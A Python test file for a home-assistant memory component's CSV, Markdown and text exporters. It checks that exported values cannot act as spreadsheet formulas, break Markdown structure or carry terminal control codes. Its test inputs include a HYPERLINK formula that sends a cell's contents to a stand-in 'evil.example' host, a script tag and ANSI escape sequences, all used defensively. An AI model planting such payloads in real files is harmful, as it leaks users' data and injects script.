"""Files that people and spreadsheets read: whatever was remembered, it stays text and breaks nothing."""

import csv
from dataclasses import replace
from io import StringIO
import re
from typing import Final
import unicodedata

from hypothesis import given, strategies as st
import pytest

from custom_components.semantic_memory.memory.models import Category, Memory
from custom_components.semantic_memory.memory.transfer.formats import WRITERS, ExportFormat
from custom_components.semantic_memory.memory.transfer.jsonl import Header

from .strategies import MEMORIES, TEXTS, memories, patient
from .test_jsonl import MEMORY

HEADER: Final = Header(exported_at=1_800_000_000.0)
NASTY: Final = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "<script>alert(1)</script> ![x](http://evil.example/a.png) <b>bold</b>",
    "# Not a heading\n\n- not a list\n```\nnot the end of the code\n````\n~~~\n</details>",
    "jane@evil.example www.evil.example https://evil.example [a](b) `code` | a | table |",
    "one\r\ntwo\rthree\u2028four\x85five\x0csix",
    "\x1b]0;title\x07\x1b[31mred",
    '"quoted", with; separators\tand a tab',
    "`",
)


def written(format_: ExportFormat, given_: list[Memory]) -> str:
    """Return a whole file."""
    writer = WRITERS[format_]()
    return writer.begin(HEADER) + "".join(writer.memory(memory, None) for memory in given_)


def with_values(*values: str) -> list[Memory]:
    """Return a memory with each of these values, which are tags and sources too."""
    return [replace(MEMORY, value=value, tags=(" ".join(value.split())[:60],)) for value in values]


# CSV


def rows(text: str) -> list[list[str]]:
    """Return the cells as a spreadsheet reads them."""
    assert text.startswith("\ufeff")
    assert text.endswith("\r\n")
    return list(csv.reader(StringIO(text[1:], newline=""), strict=True))


@patient
@given(st.lists(MEMORIES, max_size=4))
def test_a_table_has_one_row_per_memory(given_: list[Memory]) -> None:
    head, *body = rows(written(ExportFormat.CSV, given_))

    assert len(body) == len(given_)
    for row, memory in zip(body, given_, strict=True):
        cells = dict(zip(head, row, strict=True))
        assert cells["id"] == memory.id
        assert cells["value"] in {memory.value, f"'{memory.value}"}
        assert float(cells["confidence"]) == memory.confidence
        assert int(cells["use_count"]) == memory.use_count
        assert cells["pinned"] == ("true" if memory.pinned else "false")


@patient
@given(st.lists(MEMORIES, max_size=4))
def test_no_cell_is_a_formula(given_: list[Memory]) -> None:
    for row in rows(written(ExportFormat.CSV, given_)):
        for cell in row:
            assert not re.match(r"\s*[=+\-@\uff0b\uff0d\uff1d\uff20]|[\t\r\n]", cell)


def test_a_table_as_a_whole() -> None:
    assert written(ExportFormat.CSV, [MEMORY]).encode("utf-8-sig")[3:].decode() == (
        '\ufeff"id","key","value","scope","owner","category","tags","confidence","pinned","created_at","updated_at",'
        '"last_used_at","use_count","expires_at","deleted_at","surface"\r\n'
        f'"{MEMORY.id}","spare_key","It hangs in the cellar","user","{"a" * 32}","home","keys, cellar",0.9,"true",'
        '"2027-01-15T08:00:00.250000+00:00","2027-01-15T08:00:01.500000+00:00","2027-01-15T08:00:02+00:00",3,"","",'
        '"llm"\r\n'
    )


@pytest.mark.parametrize("value", ["=1+1", "+49 40 1234", "-5 degrees", "@home", "\uff1d1+1"])
def test_what_looks_like_a_formula_is_marked_as_text(value: str) -> None:
    _, row = rows(written(ExportFormat.CSV, with_values(value)))

    assert row[2] == f"'{value}"


# Markdown


def blocks(text: str) -> tuple[list[str], list[str]]:
    """Return what stands outside the code blocks, and the blocks, as CommonMark reads them (0.31, section 4.5)."""
    outside: list[str] = []
    inside: list[str] = []
    fence: str | None = None
    for line in re.split(r"\r\n|\n|\r", text):
        ticks = re.match(r" {0,3}(`{3,})", line)
        if fence is None and ticks:
            fence = ticks[1]
            inside.append("")
        elif fence is None:
            outside.append(line)
        elif ticks and line.strip() == ticks[1] and len(ticks[1]) >= len(fence):
            fence = None
        else:
            inside[-1] += line + "\n"
    assert fence is None
    return outside, inside


def without_code_spans(line: str) -> str:
    """Return a line without its code spans, as CommonMark finds them (0.31, section 6.1)."""
    kept, place = "", 0
    while run := re.compile("`+").search(line, place):
        kept += line[place : run.start()]
        end = next((found for found in re.compile("`+").finditer(line, run.end()) if found[0] == run[0]), None)
        if end is None:
            kept += run[0]
            place = run.end()
        else:
            place = end.end()
    return kept + line[place:]


@patient
@given(st.lists(memories(values=st.one_of(TEXTS.map(str.strip).filter(bool), st.sampled_from(NASTY))), max_size=4))
def test_values_stay_in_their_blocks(given_: list[Memory]) -> None:
    given_ = sorted(given_, key=lambda memory: memory.category)

    outside, inside = blocks(written(ExportFormat.MARKDOWN, given_))

    assert inside == ["".join(f"{printable(line)}\n" for line in memory.value.splitlines()) for memory in given_]
    assert [line for line in outside if line.startswith("## ")] == [
        f"## {category.capitalize()}" for category in sorted({memory.category for memory in given_})
    ]
    for line in outside:
        plain = without_code_spans(line)
        assert re.fullmatch(r"(#{1,3} )?[A-Za-z0-9 :,\u00b7-]*\.?", plain), plain


def printable(text: str) -> str:
    """Return text with control characters replaced."""
    return "".join("\ufffd" if unicodedata.category(char) == "Cc" and char != "\t" else char for char in text)


def test_a_document_as_a_whole() -> None:
    other = replace(
        MEMORY,
        category=Category.PREFERENCE,
        pinned=False,
        tags=(),
        expires_at=1_900_000_000.0,
        deleted_at=1_850_000_000.0,
    )

    assert written(ExportFormat.MARKDOWN, [MEMORY, MEMORY, other]) == (
        "# Memories\n\nExported on 2027-01-15 08:00 UTC.\n\n"
        "## Home\n\n"
        "### `spare_key`\n\nuser · changed 2027-01-15 08:00 UTC · pinned · tags: `keys`, `cellar`\n\n"
        "```text\nIt hangs in the cellar\n```\n\n"
        "### `spare_key`\n\nuser · changed 2027-01-15 08:00 UTC · pinned · tags: `keys`, `cellar`\n\n"
        "```text\nIt hangs in the cellar\n```\n\n"
        "## Preference\n\n"
        "### `spare_key`\n\n"
        "user · changed 2027-01-15 08:00 UTC · expires 2030-03-17 17:46 UTC · forgotten 2028-08-16 00:53 UTC\n\n"
        "```text\nIt hangs in the cellar\n```\n"
    )


# Text


@patient
@given(st.lists(memories(values=st.one_of(TEXTS.map(str.strip).filter(bool), st.sampled_from(NASTY))), max_size=4))
def test_text_shows_what_belongs_to_what(given_: list[Memory]) -> None:
    text = written(ExportFormat.TEXT, given_)

    lines = text.split("\n")
    assert [line for line in lines[1:] if line and not line.startswith("  ")] == [memory.key for memory in given_]
    assert not any(unicodedata.category(char) == "Cc" and char not in "\t\n" for char in text)


def test_text_as_a_whole() -> None:
    assert written(ExportFormat.TEXT, with_values("one\r\ntwo\x1b[0m")) == (
        "Memories, exported on 2027-01-15 08:00 UTC\n"
        "\nspare_key\n  one\n  two\ufffd[0m\n"
        "  (home, user, changed 2027-01-15 08:00 UTC, pinned, tags: one two\ufffd[0m)\n"
    )
